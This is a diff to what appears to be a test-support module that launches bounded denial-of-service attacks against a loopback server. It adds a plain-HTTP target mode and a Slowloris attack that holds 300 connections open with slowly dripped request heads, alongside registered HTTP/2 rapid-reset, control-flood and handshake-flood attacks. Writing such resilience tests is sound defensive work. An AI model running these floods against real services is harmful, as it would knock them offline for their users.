@@ -4,6 +4,8 @@ not the tested client's) and prints what it saw as one JSON line.
 
     python -m tests.support.attacks ATTACK PORT SECONDS CA [CERT KEY]
 
+CA "-" attacks a plain-HTTP port (the health port): no TLS, HTTP/1.1 only.
+
 Every loop is bounded in count and in time, and every address is the loopback.
 """
 
@@ -46,11 +48,15 @@ class Target:
     def __init__(self, port: int, ca: str, cert: str | None, key: str | None) -> None:
         self.port = port
         self.ca, self.cert, self.key = ca, cert, key
+        self.plain = ca == "-"
 
     def tcp(self, timeout: float = 10.0) -> socket.socket:
         return socket.create_connection(("127.0.0.1", self.port), timeout=timeout)
 
-    def tls(self, alpn: tuple[str, ...] = ("h2", "http/1.1")) -> ssl.SSLSocket:
+    def tls(self, alpn: tuple[str, ...] = ("h2", "http/1.1")) -> Any:
+        """A TLS connection offering `alpn`; on a plain port, a TCP connection."""
+        if self.plain:
+            return Plain(self.tcp())
         context = ssl.create_default_context(cafile=self.ca)
         if self.cert and self.key:
             context.load_cert_chain(self.cert, self.key)
@@ -58,11 +64,27 @@ class Target:
         return context.wrap_socket(self.tcp(), server_hostname="127.0.0.1")
 
 
+class Plain:
+    """A TCP socket that answers as a TLS one without ALPN would."""
+
+    def __init__(self, sock: socket.socket) -> None:
+        self.sock = sock
+
+    def selected_alpn_protocol(self) -> None:
+        return None
+
+    def __getattr__(self, name: str) -> Any:
+        return getattr(self.sock, name)
+
+
 def h2_socket(target: Target, deadline: float) -> ssl.SSLSocket | None:
     """A TLS connection that chose h2; where the server offers no h2, new handshakes one
     after another until `deadline` (a handshake flood instead), and None."""
+    if target.plain:
+        time.sleep(max(0.0, deadline - time.monotonic()))
+        return None
     while True:
-        sock = target.tls()
+        sock: ssl.SSLSocket = target.tls()
         if sock.selected_alpn_protocol() == "h2":
             return sock
         sock.close()
@@ -190,6 +212,29 @@ def stalled_tls(target: Target, seconds: float, count: int = 300) -> dict[str, A
         socks.append(sock)
     time.sleep(seconds)
     closed = sum(closed_by_peer(sock) for sock in socks)
+    for sock in socks:
+        sock.close()
+    return {"opened": count, "closed_by_server": closed}
+
+
+def slow_heads(target: Target, seconds: float, count: int = 300) -> dict[str, Any]:
+    """Slowloris: request heads sent a byte a second, never finished."""
+    head = b"POST /scheduler/filter HTTP/1.1\r\nHost: gas\r\nContent-Length: 10\r\nX-Slow: "
+    socks = [target.tls(("http/1.1",)) for _ in range(count)]
+    deadline = time.monotonic() + seconds
+    sent = 0
+    closed = 0
+    while socks and time.monotonic() < deadline:
+        for sock in list(socks):
+            try:
+                sock.sendall(head[sent % len(head) : sent % len(head) + 1])
+            except OSError:
+                closed += 1
+                socks.remove(sock)
+                sock.close()
+        sent += 1
+        time.sleep(1.0)
+    closed += sum(closed_by_peer(sock) for sock in socks)
     for sock in socks:
         sock.close()
     return {"opened": count, "closed_by_server": closed}
@@ -336,12 +381,13 @@ def never_reads(target: Target, seconds: float, connections: int = 4) -> dict[st
     stats = {"requests_sent": 0, "write_blocked": 0, "reset_by_server": 0}
     lock = threading.Lock()
     deadline = time.monotonic() + seconds
-    http1 = b"GET /metrics HTTP/1.1\r\nHost: gas\r\n\r\n" * 50
+    path = b"/healthz" if target.plain else b"/metrics"
+    http1 = (b"GET " + path + b" HTTP/1.1\r\nHost: gas\r\n\r\n") * 50
     block = literal_block(
         [
             (b":method", b"GET"),
             (b":scheme", b"https"),
-            (b":path", b"/metrics"),
+            (b":path", path),
             (b":authority", b"g"),
         ]
     )
@@ -394,6 +440,7 @@ ATTACKS: dict[str, Callable[[Target, float], dict[str, Any]]] = {
     "idle_h2": idle_h2,
     "silent_tcp": silent_tcp,
     "stalled_tls": stalled_tls,
+    "slow_heads": slow_heads,
     "rapid_reset": rapid_reset,
     "unfinished_bodies": unfinished_bodies,
     "control_flood": control_flood,
